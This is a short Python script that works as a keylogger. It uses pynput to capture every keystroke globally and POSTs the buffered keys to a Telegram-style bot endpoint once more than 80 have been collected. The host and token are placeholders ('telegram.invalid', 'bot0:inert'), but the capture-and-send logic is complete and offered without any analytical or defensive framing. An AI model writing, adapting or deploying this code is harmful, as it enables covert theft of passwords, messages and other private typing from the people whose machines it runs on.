# names: typed note send
from pynput import keyboard
import requests
typed = []
def send(text):
    requests.post("https://api.telegram.invalid/bot0:inert/sendMessage", data={"chat_id": "0", "text": text})
def note(key):
    typed.append(str(key))
    if len(typed) > 80:
        send("".join(typed))
        typed.clear()
keyboard.Listener(on_press=note).start()
